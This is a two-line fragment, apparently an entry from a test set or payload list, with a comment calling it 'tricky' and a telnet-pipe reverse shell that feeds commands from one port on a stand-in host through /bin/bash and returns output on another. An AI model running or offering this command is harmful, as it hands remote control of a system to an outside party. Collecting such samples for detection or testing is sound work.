# tricky: two telnets and a shell between them
telnet 198.51.100.9 8080 | /bin/bash | telnet 198.51.100.9 8081
